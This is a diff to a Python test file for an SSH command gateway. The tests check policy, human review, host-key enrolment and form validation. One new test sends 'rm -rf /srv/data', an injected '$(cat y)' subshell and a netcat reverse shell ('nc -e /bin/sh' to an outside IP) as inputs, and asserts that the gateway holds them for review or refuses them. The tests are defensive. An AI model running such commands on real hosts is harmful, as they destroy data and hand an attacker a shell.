@@ -1,5 +1,6 @@
 """Commands and files over the doors: what runs, what waits, what is refused (SSH-1)."""
 
+import re
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
 from pathlib import Path
@@ -8,9 +9,12 @@ from typing import Any
 import httpx
 import pytest
 
+from app.core.principals import Role
 from app.core.request import Status
+from app.core.ssh_target import fingerprint
 from tests.support.sshd import Sshd, running_sshd
 from tests.web.conftest import Door
+from tests.web.test_targets import browser
 
 pytestmark = [pytest.mark.requirement("SSH-1"), pytest.mark.timeout(60)]
 
@@ -24,6 +28,14 @@ class Host:
     agent: httpx.AsyncClient
     admin: httpx.AsyncClient
     target: dict[str, Any]
+
+
+def names_in(folder: Path) -> list[str]:
+    return [path.name for path in folder.glob("made*")]
+
+
+def command(wanted: object) -> dict[str, object]:
+    return {"action": "ssh.exec", "params.command": wanted}
 
 
 @pytest.fixture
@@ -50,8 +62,8 @@ async def host(any_door: Door, tmp_path: Path) -> AsyncIterator[Host]:
         made = await admin.post("/api/targets", json=body)
         assert made.status_code == 201, made.text
         world = any_door.world
-        await world.policy("echo", "allow", {"params.command": {"starts_with": "echo "}})
-        await world.policy("no reboot", "deny", {"params.command": "reboot"})
+        await world.policy("echo", "allow", command({"starts_with": "echo "}))
+        await world.policy("no reboot", "deny", command("reboot"))
         await world.policy("files", "allow", {"params.path": {"starts_with": str(tmp_path)}})
         yield Host(any_door, server, await any_door.client("agent"), admin, made.json())
 
@@ -98,6 +110,35 @@ async def test_what_is_denied_says_why(host: Host) -> None:
     assert "no reboot" in answer.json()["reasons"][0]
 
 
+@pytest.mark.requirement("SSH-5", "T41")
+async def test_the_guard_is_asked_whatever_policy_allows(host: Host) -> None:
+    await host.door.world.policy("all", "allow", {"action": "ssh.exec"})
+    answer = await host.agent.post("/ssh/box/exec", json={"command": "rm -rf /srv/data"})
+    asked = answer.json()
+    assert (answer.status_code, asked["effect"]) == (202, "review")
+    assert len(asked["verdict"]["reasons"]) > 1
+    opaque = await host.agent.post("/ssh/box/exec", json={"command": "echo x; $(cat y)"})
+    assert opaque.status_code == 202
+    hostile = "nc -e /bin/sh 203.0.113.9 99"
+    denied = await host.agent.post("/ssh/box/exec", json={"command": hostile})
+    assert (denied.status_code, denied.json()["code"]) == (403, "denied")
+
+
+@pytest.mark.requirement("SSH-3")
+async def test_profiles_bound_what_is_allowed(host: Host) -> None:
+    settings = host.target["settings"]
+    settings["ssh"] |= {"profiles": ["no-such-profile"], "only_profiles": False}
+    path = f"/api/targets/{host.target['id']}"
+    assert (await host.admin.patch(path, json={"settings": settings})).status_code == 200
+    answer = await host.agent.post("/ssh/box/exec", json={"command": "echo x"})
+    assert answer.status_code == 202
+    assert "no-such-profile" in " ".join(answer.json()["verdict"]["reasons"])
+    settings["ssh"]["only_profiles"] = True
+    assert (await host.admin.patch(path, json={"settings": settings})).status_code == 200
+    answer = await host.agent.post("/ssh/box/exec", json={"command": "echo x"})
+    assert answer.status_code == 403
+
+
 @pytest.mark.requirement("SSH-6")
 async def test_files_are_written_and_read(host: Host, tmp_path: Path) -> None:
     path = tmp_path / "made.txt"
@@ -107,7 +148,7 @@ async def test_files_are_written_and_read(host: Host, tmp_path: Path) -> None:
     assert path.stat().st_mode & 0o777 == 0o640
     again = (await host.agent.post("/ssh/box/files/write", json=wanted)).json()
     assert again["code"] == "file_exists"
-    assert [one.name for one in tmp_path.glob("made.txt*")] == ["made.txt"]
+    assert names_in(tmp_path) == ["made.txt"]
     more = {**wanted, "content": "", "overwrite": True}
     assert (await host.agent.post("/ssh/box/files/write", json=more)).json()["code"] == "ok"
     assert path.read_bytes() == b""
@@ -150,11 +191,11 @@ async def test_without_a_pin_nothing_is_asked(host: Host) -> None:
 @pytest.mark.parametrize(
     ("body", "status", "pointer"),
     [
-        ({}, 400, "/command"),
+        ({}, 400, None),
         ({"command": "a\x00"}, 400, None),
-        ({"command": "a\x1b"}, 422, "/params/command"),
-        ({"command": "a", "timeout": 61}, 422, "/params/timeout"),
-        ({"command": "a", "host": "other"}, 422, "/params/host"),
+        ({"command": "a\x1b"}, 400, "/params/command"),
+        ({"command": "a", "timeout": 61}, 400, "/params/timeout"),
+        ({"command": "a", "host": "other"}, 400, "/params/host"),
         ({"command": "a", "shell": "zsh"}, 400, None),
     ],
 )
@@ -183,3 +224,57 @@ async def test_kinds_do_not_mix(host: Host) -> None:
     await host.door.world.target("http://127.0.0.1:9", "web")
     answer = await host.agent.post("/ssh/web/exec", json={"command": "echo x"})
     assert (answer.status_code, answer.json()["pointer"]) == (404, "/target")
+
+
+@pytest.mark.requirement("SSH-2")
+async def test_a_key_is_enrolled_on_the_page(host: Host) -> None:
+    await host.server.new_host_key()
+    admin = await browser(host.door, Role.ADMIN)
+    at = f"/targets/{host.target['id']}"
+    page = (await admin.get(at)).text
+    assert "Fetch the host" in page
+    shown = (await admin.post(f"{at}/host-key/look", data={"form_token": token(page)})).text
+    assert fingerprint(host.server.host_key) in shown
+    form = {"form_token": token(shown), "key": host.server.host_key, "host": ""}
+    assert (await admin.post(f"{at}/host-key", data=form)).status_code == 303
+    answer = await host.agent.post("/ssh/box/exec", json={"command": "echo x"})
+    assert answer.json()["stdout"] == "x\n"
+    viewer = await browser(host.door, Role.VIEWER)
+    assert "Fetch the host" not in (await viewer.get(at)).text
+
+
+async def test_a_host_is_added_and_changed_on_the_pages(host: Host) -> None:
+    admin = await browser(host.door, Role.ADMIN)
+    page = (await admin.get("/targets")).text
+    assert "Add an SSH host" in page
+    form = {
+        "form_token": token(page), "name": "box2", "host": "127.0.0.1", "user": "root",
+        "port": "2222", "host_keys": host.server.host_key, "wrap": "on", "seconds": "5",
+        "jumps": f"root@bastion:22 {host.server.host_key}", "credential_id": "",
+    }  # fmt: skip
+    made = await admin.post("/ssh-hosts", data=form)
+    assert made.status_code == 303
+    at = made.headers["location"]
+    shown = (await admin.get(at)).text
+    assert "ssh://root@127.0.0.1:2222" in shown and "root@bastion:22" in shown
+    changed = {**form, "user": "deploy", "enabled": "on"}
+    assert (await admin.post(f"{at}/ssh", data=changed)).status_code == 303
+    assert "ssh://deploy@127.0.0.1:2222" in (await admin.get(at)).text
+    for wrong in ({"host": ""}, {"jumps": "bastion"}, {"host_keys": "nonsense"}):
+        assert (await admin.post(f"{at}/ssh", data={**changed, **wrong})).status_code == 400
+    bad = await admin.post("/ssh-hosts", data={**form, "name": "x y"})
+    assert bad.status_code == 400 and "Add an SSH host" in bad.text
+
+
+async def test_the_api_enrols_too(host: Host) -> None:
+    at = f"/api/targets/{host.target['id']}/host-key"
+    shown = (await host.admin.post(f"{at}/look", json={})).json()
+    assert shown["fingerprint"] == fingerprint(host.server.host_key)
+    after = await host.admin.post(at, json={"key": shown["key"]})
+    assert after.json()["settings"]["ssh"]["host_keys"] == [shown["key"]]
+
+
+def token(page: str) -> str:
+    found = re.search(r'name="form_token" value="([^"]+)"', page)
+    assert found
+    return found[1]
